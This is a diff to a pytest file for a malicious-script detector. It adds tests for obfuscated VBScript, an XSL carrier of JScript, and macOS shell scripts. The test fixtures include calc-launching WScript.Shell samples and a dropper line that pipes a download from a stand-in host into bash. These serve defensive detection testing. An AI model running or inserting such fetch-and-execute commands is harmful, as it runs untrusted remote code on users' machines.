@@ -100,8 +100,9 @@ def test_extension_helpers() -> None:
 @pytest.mark.parametrize(
     ("path", "expected"),
     [
+        # obfuscated JScript: the behaviour is computed at run time, the hiding is what shows
         ("maldocs/inquest/026b02380e79af4b1b0282c2473828c6fb9c76a421bba09ff2019415c6c6976a.js.zip",
-         {"file.script", "file.script_behavior"}),
+         {"file.script", "file.script_obfuscated"}),
         ("maldocs/inquest/7a2dd16bb0f74ebf7268b784d74dc494ee817a01c5ace5bbc12e21f943caf189.hta.zip",
          {"file.script", "file.script_behavior"}),
         ("maldocs/inquest/91237a76e43caa35e3fbd42d47fbaca5d6b5ea7a96c89341196d070b628122ce.bat.zip",
@@ -137,3 +138,37 @@ def test_corpus_benign(corpus_dir: object, path: str, expected: set[str]) -> Non
     found = codes(read_corpus_sample(path), path.rsplit("/", 1)[-1])
     assert found == expected
     assert sum(SCORES[c] for c in found) <= 5
+
+
+# -- issue 11: de-obfuscated behaviour, bare eval, XSL and macOS shell scripts -------------------
+def test_bare_eval_is_a_script_but_not_behaviour() -> None:
+    js = b"var cfg = eval('(' + text + ')');\nfunction show(c) { return c.name; }\n"
+    assert codes(js, "config.js") == {"file.script"}
+
+
+def test_obfuscated_vbs_behaviour_is_found_after_deobfuscation() -> None:
+    vbs = b'Dim o\nSet o = CreateObject(Chr(87) & Chr(83) & "cri" & "pt.Sh" & "ell")\no.Run "calc", 0\n'
+    found = run(vbs, "invoice.vbs")
+    assert {f.code for f in found} == {"file.script", "file.script_behavior"}
+    assert "after de-obfuscation" in next(f.detail for f in found if f.code == "file.script_behavior")
+
+
+def test_xsl_script_carrier() -> None:
+    xsl = b"""<?xml version='1.0'?><stylesheet xmlns:ms="urn:schemas-microsoft-com:xslt">
+<ms:script implements-prefix="user" language="JScript">var r = new ActiveXObject("WScript.Shell").Run("calc");
+</ms:script></stylesheet>"""
+    assert codes(xsl, "style.xsl") == {"file.script", "file.script_behavior"}
+
+
+def test_macos_shell_scripts() -> None:
+    dropper = b"#!/bin/bash\ncurl -fsSL https://x.example/i | bash\n"
+    assert codes(dropper, "Wallet Fix.command") == {"file.script", "file.script_behavior"}
+    # a .sh opens in an editor on a Mac: its behaviour is reported weak (score 4), not as a runnable script
+    found = run(dropper, "install.sh")
+    assert {f.code for f in found} == {"file.script_behavior"} and found[0].strength == "weak"
+    assert codes(b"#!/bin/sh\necho hello\n", "build.sh") == set()
+
+
+def test_script_named_txt_is_weak_evidence() -> None:
+    found = run(b'Set o = CreateObject("WScript.Shell")\no.Run "calc"\n', "notes.txt")
+    assert found and all(f.strength == "weak" for f in found if f.code.startswith("file.script"))
